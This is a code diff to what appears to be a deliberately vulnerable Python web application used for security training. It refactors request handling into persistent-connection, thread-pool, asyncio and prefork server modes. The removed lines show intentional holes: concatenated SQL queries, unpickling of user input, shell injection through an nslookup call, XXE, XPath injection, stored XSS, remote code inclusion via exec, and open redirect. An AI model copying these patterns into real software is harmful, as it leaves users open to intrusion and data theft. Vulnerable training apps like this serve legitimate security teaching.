+    def handle(self):  # one request per worker pass (plus any already pipelined ones), persistent connections wait in the server's selector in between
+        self.close_connection = True
+        self.handle_one_request()
+        while not self.close_connection and self.buffered():
+            self.handle_one_request()
+
+    def buffered(self):  # requests already read into rfile would never make the socket readable again
+        self.connection.setblocking(False)
         try:
-            if path == '/':
-                if "id" in params:
-                    cursor.execute("SELECT id, username, name, surname FROM users WHERE id=" + params["id"])
-                    content += "<div><span>Result(s):</span></div><table><thead><th>id</th><th>username</th><th>name</th><th>surname</th></thead>%s</table>%s" % ("".join("<tr>%s</tr>" % "".join("<td>%s</td>" % ("-" if _ is None else _) for _ in row) for row in cursor.fetchall()), HTML_POSTFIX)
-                elif "v" in params:
-                    content += re.sub(r"(v<b>)[^<]+(</b>)", r"\g<1>%s\g<2>" % params["v"], HTML_POSTFIX)
-                elif "object" in params:
-                    content = str(pickle.loads(params["object"].encode()))
-                elif "path" in params:
-                    content = (open(os.path.abspath(params["path"]), "rb") if not "://" in params["path"] else urllib.request.urlopen(params["path"])).read().decode()
-                elif "domain" in params:
-                    content = subprocess.check_output("nslookup " + params["domain"], shell=True, stderr=subprocess.STDOUT, stdin=subprocess.PIPE).decode()
-                elif "xml" in params:
-                    content = lxml.etree.tostring(lxml.etree.parse(io.BytesIO(params["xml"].encode()), lxml.etree.XMLParser(no_network=False)), pretty_print=True).decode()
-                elif "name" in params:
-                    found = lxml.etree.parse(io.BytesIO(USERS_XML.encode())).xpath(".//user[name/text()='%s']" % params["name"])
-                    content += "<b>Surname:</b> %s%s" % (found[-1].find("surname").text if found else "-", HTML_POSTFIX)
-                elif "size" in params:
-                    start, _ = time.time(), "<br>".join("#" * int(params["size"]) for _ in range(int(params["size"])))
-                    content += "<b>Time required</b> (to 'resize image' to %dx%d): %.6f seconds%s" % (int(params["size"]), int(params["size"]), time.time() - start, HTML_POSTFIX)
-                elif "comment" in params or query == "comment=":
-                    if "comment" in params:
-                        cursor.execute("INSERT INTO comments VALUES(NULL, '%s', '%s')" % (params["comment"], time.ctime()))
-                        content += "Thank you for leaving the comment. Please click here <a href=\"/?comment=\">here</a> to see all comments%s" % HTML_POSTFIX
-                    else:
-                        cursor.execute("SELECT id, comment, time FROM comments")
-                        content += "<div><span>Comment(s):</span></div><table><thead><th>id</th><th>comment</th><th>time</th></thead>%s</table>%s" % ("".join("<tr>%s</tr>" % "".join("<td>%s</td>" % ("-" if _ is None else _) for _ in row) for row in cursor.fetchall()), HTML_POSTFIX)
-                elif "include" in params:
-                    backup, sys.stdout, program, envs = sys.stdout, io.StringIO(), (open(params["include"], "rb") if not "://" in params["include"] else urllib.request.urlopen(params["include"])).read(), {"DOCUMENT_ROOT": os.getcwd(), "HTTP_USER_AGENT": self.headers.get("User-Agent"), "REMOTE_ADDR": self.client_address[0], "REMOTE_PORT": self.client_address[1], "PATH": path, "QUERY_STRING": query}
-                    exec(program, envs)
-                    content += sys.stdout.getvalue()
-                    sys.stdout = backup
-                elif "redir" in params:
-                    content = content.replace("<head>", "<head><meta http-equiv=\"refresh\" content=\"0; url=%s\"/>" % params["redir"])
-                if HTML_PREFIX in content and HTML_POSTFIX not in content:
-                    content += "<div><span>Attacks:</span></div>\n<ul>%s\n</ul>\n" % ("".join("\n<li%s>%s - <a href=\"%s\">vulnerable</a>|<a href=\"%s\">exploit</a>|<a href=\"%s\" target=\"_blank\">info</a></li>" % (" class=\"disabled\" title=\"module 'python-lxml' not installed\"" if ("lxml.etree" not in sys.modules and any(_ in case[0].upper() for _ in ("XML", "XPATH"))) else "", case[0], case[1], case[2], case[3]) for case in CASES)).replace("<a href=\"None\">vulnerable</a>|", "<b>-</b>|")
-            elif path == "/users.json":
-                content = "%s%s%s" % ("" if not "callback" in params else "%s(" % params["callback"], json.dumps(dict((_.findtext("username"), _.findtext("surname")) for _ in xml.etree.ElementTree.fromstring(USERS_XML).findall("user"))), "" if not "callback" in params else ")")
-            elif path == "/login":
-                cursor.execute("SELECT * FROM users WHERE username='" + re.sub(r"[^\w]", "", params.get("username", "")) + "' AND password='" + params.get("password", "") + "'")
-                content += "Welcome <b>%s</b><meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=%s; path=/\"><meta http-equiv=\"refresh\" content=\"1; url=/\"/>" % (re.sub(r"[^\w]", "", params.get("username", "")), "".join(random.sample(string.ascii_letters + string.digits, 20))) if cursor.fetchall() else "The username and/or password is incorrect<meta http-equiv=\"Set-Cookie\" content=\"SESSIONID=; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT\">"
-            else:
-                code = http.client.NOT_FOUND
-        except Exception as ex:
-            content = ex.output if isinstance(ex, subprocess.CalledProcessError) else traceback.format_exc()
-            code = http.client.INTERNAL_SERVER_ERROR
+            return bool(self.rfile.peek(1))
+        except OSError:
+            return False
         finally:
-            self.send_response(code)
-            self.send_header("Connection", "close")
-            self.send_header("X-XSS-Protection", "0")
-            self.send_header("Content-Type", "%s%s" % ("text/html" if content.startswith("<!DOCTYPE html>") else "text/plain", "; charset=%s" % params.get("charset", "utf8")))
-            self.end_headers()
-            self.wfile.write(("%s%s" % (content, HTML_POSTFIX if HTML_PREFIX in content and GITHUB not in content else "")).encode())
-            self.wfile.flush()
-
-class ThreadingServer(socketserver.ThreadingMixIn, http.server.HTTPServer):
+            self.connection.settimeout(self.timeout)
+
+    def finish(self):
+        if self.close_connection:
+            http.server.BaseHTTPRequestHandler.finish(self)
+
+    def do_GET(self):
+        start, size, (path, query, params) = time.perf_counter(), 0, parse(self.path)
+        code, content, extra = dispatch(path, query, params, self.headers, self.client_address, self.server)
+        self.requests += 1
+        injected, headers, content = respond(code, content, params, extra)
+        streaming = not isinstance(content, bytes)
+        chunked = streaming and not injected and self.protocol_version >= "HTTP/1.1" and self.request_version >= "HTTP/1.1"
+        keep_alive = KEEP_ALIVE and not injected and not self.close_connection and self.requests < KEEP_ALIVE_MAX_REQUESTS and (chunked or not streaming)
+        self.send_response(code)
+        self.send_header("Connection", "keep-alive" if keep_alive else "close")
+        if keep_alive:
+            self.send_header("Keep-Alive", "timeout=%d, max=%d" % (KEEP_ALIVE_TIMEOUT, KEEP_ALIVE_MAX_REQUESTS - self.requests))
+        for header in headers + ([("Transfer-Encoding", "chunked")] if chunked else []):
+            self.send_header(*header)
+        self.end_headers()
+        for chunk in content if streaming else (content,):
+            self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk) if chunked else chunk)
+            size += len(chunk)
+        if chunked:
+            self.wfile.write(b"0\r\n\r\n")
+        self.wfile.flush()
+        observe(local.branch, code, time.perf_counter() - start, size)
+
+class ThreadingServer(http.server.HTTPServer):
+    request_queue_size = 1024
+
+    def __init__(self, *args, **kwargs):
+        http.server.HTTPServer.__init__(self, *args, **kwargs)
+        self.queue, self.inflight, self.waiting, self.lock = queue.Queue(QUEUE_SIZE), 0, 0, threading.Lock()
+        self.selector, self.accepted, self.wakeup = selectors.DefaultSelector(), queue.SimpleQueue(), socket.socketpair()
+        self.wakeup[1].setblocking(False)
+        self.selector.register(self.wakeup[0], selectors.EVENT_READ)
+        threading.Thread(target=self.poller, daemon=True).start()
+        for _ in range(THREADS):
+            threading.Thread(target=self.worker, daemon=True).start()
+
     def server_bind(self):
         self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        if PROCESSES > 1:
+            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
         http.server.HTTPServer.server_bind(self)
 
+    def get_request(self):
+        try:
+            return self.socket.accept()
+        except OSError as ex:
+            if ex.errno in (errno.EMFILE, errno.ENFILE):  # out of descriptors, have the poller drop the waiting connection closest to its deadline and back off instead of spinning on the (still readable) listening socket
+                self.wake((None,))
+                time.sleep(0.01)
+            raise
+
+    def process_request(self, request, client_address):  # connections are handed to workers only once readable (see poller()), with at most QUEUE_SIZE of them waiting or queued
+        if self.waiting + self.queue.qsize() >= QUEUE_SIZE:
+            self.reject(request)
+        else:
+            self.park(request, client_address, None, REQUEST_TIMEOUT)
+
+    def park(self, request, client_address, handler, timeout):
+        with self.lock:
+            self.waiting += 1
+        self.wake((request, client_address, handler, time.time() + timeout))
+
+    def wake(self, item):
+        self.accepted.put(item)
+        try:
+            self.wakeup[1].send(b"\0")
+        except OSError:
+            pass
+
+    def poller(self):
+        sweep = time.time()
+        while True:
+            for key, _ in self.selector.select(1):
+                if key.fileobj is self.wakeup[0]:
+                    self.wakeup[0].recv(4096)
+                    while not self.accepted.empty():
+                        request, *data = self.accepted.get()
+                        if request:
+                            self.selector.register(request, selectors.EVENT_READ, data)
+                        elif self.waiting:  # see get_request()
+                            self.reject(self.unpark(min((_ for _ in self.selector.get_map().values() if _.data), key=lambda _: _.data[2])))
+                else:
+                    self.enqueue(self.unpark(key), *key.data[:2])
+            if time.time() - sweep > 1:
+                sweep = time.time()
+                for key in [_ for _ in self.selector.get_map().values() if _.data and sweep > _.data[2]]:
+                    self.shutdown_request(self.unpark(key))
+
+    def unpark(self, key):
+        self.selector.unregister(key.fileobj)
+        with self.lock:
+            self.waiting -= 1
+        return key.fileobj
+
+    def enqueue(self, request, client_address, handler):
+        try:
+            self.queue.put_nowait((request, client_address, handler))
+        except queue.Full:
+            self.reject(request)
+
+    def reject(self, request):
+        try:
+            request.sendall(b"HTTP/1.0 503 Service Unavailable\r\nConnection: close\r\nRetry-After: 1\r\nContent-Type: text/plain\r\nContent-Length: 19\r\n\r\nService Unavailable")
+        except OSError:
+            pass
+        self.shutdown_request(request)
+        observe("rejected", http.client.SERVICE_UNAVAILABLE, 0, 0)
+
+    def stats(self):
+        return {"threads": THREADS, "waiting": self.waiting, "queue": self.queue.qsize(), "queue_size": QUEUE_SIZE, "inflight": self.inflight}
+
+    def worker(self):
+        while True:
+            request, client_address, handler = self.queue.get()
+            with self.lock:
+                self.inflight += 1
+            try:
+                if handler:  # next request on a persistent connection
+                    handler.handle()
+                    handler.finish()
+                else:
+                    handler = self.RequestHandlerClass(request, client_address, self)
+            except Exception:
+                handler = None
+                self.handle_error(request, client_address)
+            finally:
+                with self.lock:
+                    self.inflight -= 1
+                if handler and not handler.close_connection:
+                    self.park(request, client_address, handler, KEEP_ALIVE_TIMEOUT)
+                else:
+                    self.shutdown_request(request)
+
+class AsyncioServer(object):
+    def __init__(self, server_address):
+        self.server_address, self.connections, self.inflight, self.pending = server_address, 0, 0, 0
+
+    def stats(self):
+        return {"threads": THREADS, "connections": self.connections, "queue": max(0, self.pending - THREADS), "queue_size": QUEUE_SIZE, "inflight": self.inflight}
+
+    async def handle(self, reader, writer):
+        self.connections, requests, client_address = self.connections + 1, 0, writer.get_extra_info("peername")[:2]
+        try:
+            while True:
+                try:
+                    head = (await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), KEEP_ALIVE_TIMEOUT if KEEP_ALIVE else REQUEST_TIMEOUT)).decode("iso-8859-1")
+                except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.TimeoutError, ConnectionError):
+                    break
+                requestline, _, head = head.partition("\r\n")
+                words, headers = requestline.split(), http.client.parse_headers(io.BytesIO(head.encode("iso-8859-1")))
+                if len(words) != 3 or not words[2].startswith("HTTP/") or words[0] != "GET":
+                    code = http.client.BAD_REQUEST if len(words) != 3 or not words[2].startswith("HTTP/") else http.client.NOT_IMPLEMENTED
+                    writer.write(("HTTP/1.0 %d %s\r\nConnection: close\r\nContent-Length: 0\r\n\r\n" % (code, http.client.responses[code])).encode("latin-1"))
+                    break
+                start, requests, (path, query, params), persistent = time.perf_counter(), requests + 1, parse(words[1]), headers.get("Connection", "").lower() == "keep-alive" or (headers.get("Connection", "").lower() != "close" and words[2] >= "HTTP/1.1")
+                self.inflight, label = self.inflight + 1, branch(path, query, params)
+                try:
+                    if label in NONBLOCKING:
+                        code, content, extra = dispatch(path, query, params, headers, client_address, self)
+                    elif self.pending >= THREADS + QUEUE_SIZE:
+                        code, content, extra, params, label = http.client.SERVICE_UNAVAILABLE, "Service Unavailable", [], {}, "rejected"
+                    else:
+                        self.pending += 1
+                        try:
+                            code, content, extra = await asyncio.get_running_loop().run_in_executor(None, dispatch, path, query, params, headers, client_address, self)
+                        finally:
+                            self.pending -= 1
+                finally:
+                    self.inflight -= 1
+                injected, fields, content = respond(code, content, params, extra)
+                streaming = not isinstance(content, bytes)
+                chunked = streaming and not injected and ReqHandler.protocol_version >= "HTTP/1.1" and words[2] >= "HTTP/1.1"
+                keep_alive = KEEP_ALIVE and persistent and not injected and code != http.client.SERVICE_UNAVAILABLE and requests < KEEP_ALIVE_MAX_REQUESTS and (chunked or not streaming)
+                fields = [("Server", "%s %s" % (ReqHandler.server_version, ReqHandler.sys_version)), ("Date", email.utils.formatdate(time.time(), usegmt=True)), ("Connection", "keep-alive" if keep_alive else "close")] + ([("Keep-Alive", "timeout=%d, max=%d" % (KEEP_ALIVE_TIMEOUT, KEEP_ALIVE_MAX_REQUESTS - requests))] if keep_alive else []) + fields + ([("Transfer-Encoding", "chunked")] if chunked else [])
+                writer.write(("%s %d %s\r\n%s\r\n" % (ReqHandler.protocol_version, code, http.client.responses[code], "".join("%s: %s\r\n" % _ for _ in fields))).encode("latin-1") + (b"" if streaming else content))
+                await writer.drain()
+                size = 0 if streaming else len(content)
+                while streaming:  # rows are fetched off the event loop, one batch per chunk (counted as pending executor work)
+                    self.pending += 1
+                    try:
+                        chunk = await asyncio.get_running_loop().run_in_executor(None, next, content, None)
+                    finally:
+                        self.pending -= 1
+                    if chunk is None:
+                        break
+                    writer.write(b"%x\r\n%s\r\n" % (len(chunk), chunk) if chunked else chunk)
+                    await writer.drain()
+                    size += len(chunk)
+                if chunked:
+                    writer.write(b"0\r\n\r\n")
+                    await writer.drain()
+                observe(label, code, time.perf_counter() - start, size)
+                if not keep_alive:
+                    break
+        except Exception:  # reported the same way as socketserver's handle_error()
+            print("-" * 40, file=sys.stderr)
+            print("Exception occurred during processing of request from %s" % (client_address,), file=sys.stderr)
+            traceback.print_exc()
+            print("-" * 40, file=sys.stderr)
+        finally:
+            self.connections -= 1
+            writer.close()
+
+    async def serve_forever(self):
+        asyncio.get_running_loop().set_default_executor(concurrent.futures.ThreadPoolExecutor(THREADS))
+        async with await asyncio.start_server(self.handle, *self.server_address, backlog=1024, reuse_port=PROCESSES > 1) as server:
+            await server.serve_forever()
+
+def serve(engine):
+    if engine == "asyncio":
+        asyncio.run(AsyncioServer((LISTEN_ADDRESS, LISTEN_PORT)).serve_forever())
+    else:
+        ThreadingServer((LISTEN_ADDRESS, LISTEN_PORT), ReqHandler).serve_forever()
+
 if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=NAME)
+    parser.add_argument("--port", type=int, default=LISTEN_PORT, help="listening port (default: %(default)s)")
+    parser.add_argument("--keep-alive", action="store_true", help="enable HTTP/1.1 persistent connections (idle timeout %ds, max %d requests per connection)" % (KEEP_ALIVE_TIMEOUT, KEEP_ALIVE_MAX_REQUESTS))
+    parser.add_argument("--threads", type=int, default=THREADS, help="number of worker threads (default: %(default)s)")
+    parser.add_argument("--queue-size", type=int, default=QUEUE_SIZE, help="waiting or queued connections before rejecting with 503 (default: %(default)s)")
+    parser.add_argument("--engine", choices=("threading", "asyncio"), default="threading", help="server engine (default: %(default)s)")
+    parser.add_argument("--processes", type=int, default=PROCESSES, help="number of prefork worker processes sharing the port (default: %(default)s)")
+    parser.add_argument("--database", help="SQLite database file (default: in-memory, 'dsvw.db' with --processes > 1)")
+    parser.add_argument("--sandboxes", type=int, default=SANDBOX_MAX, help="multi-tenant mode: max number of per-session in-memory sandboxes (default: %(default)s, i.e. disabled)")
+    parser.add_argument("--sandbox-memory", type=int, default=SANDBOX_MEMORY // 1024 // 1024, help="total sandbox memory budget in MB (default: %(default)s)")
+    args = parser.parse_args()
+    if args.processes > 1 and not (hasattr(os, "fork") and hasattr(socket, "SO_REUSEPORT")):
+        parser.error("--processes requires fork() and SO_REUSEPORT")
+    if args.threads < 1 or args.queue_size < 1:
+        parser.error("--threads and --queue-size must be at least 1")
+    if args.processes > 1 and args.database == ":memory:":
+        parser.error("--processes requires a file-backed --database")
+    if args.sandboxes and (args.processes > 1 or args.database):
+        parser.error("--sandboxes requires a single process with the in-memory database")
+    LISTEN_PORT, THREADS, QUEUE_SIZE, PROCESSES, DATABASE, children = args.port, args.threads, args.queue_size, args.processes, args.database or (DATABASE if args.processes == 1 else "dsvw.db"), []
+    SANDBOX_MAX, SANDBOX_MEMORY = args.sandboxes, args.sandbox_memory * 1024 * 1024
+    if args.keep_alive:
+        KEEP_ALIVE, ReqHandler.protocol_version, ReqHandler.timeout = True, "HTTP/1.1", KEEP_ALIVE_TIMEOUT
     init()
-    print("%s #v%s\n by: %s\n\n[i] running HTTP server at 'http://%s:%d'..." % (NAME, VERSION, AUTHOR, LISTEN_ADDRESS, LISTEN_PORT))
+    print("%s #v%s\n by: %s\n\n[i] running HTTP server at 'http://%s:%d'%s..." % (NAME, VERSION, AUTHOR, LISTEN_ADDRESS, LISTEN_PORT, " (%d processes)" % PROCESSES if PROCESSES > 1 else ""))
     try:
-        ThreadingServer((LISTEN_ADDRESS, LISTEN_PORT), ReqHandler).serve_forever()
+        if PROCESSES > 1:
+            connection.close()
+            signal.signal(signal.SIGTERM, lambda *_: sys.exit())  # unwinds to the 'finally' below, which terminates the workers
+            for _ in range(PROCESSES):
+                pid = os.fork()
+                if not pid:
+                    children = []
+                    signal.signal(signal.SIGTERM, signal.SIG_DFL)
+                    serve(args.engine)
+                children.append(pid)
+            for pid in children:
+                os.waitpid(pid, 0)
+        else:
+            serve(args.engine)
     except KeyboardInterrupt:
         pass
     except Exception as ex:
         print("[x] exception occurred ('%s')" % ex)
     finally:
+        for pid in children:
+            try:
+                os.kill(pid, signal.SIGTERM)
+            except OSError:
+                pass
         os._exit(0)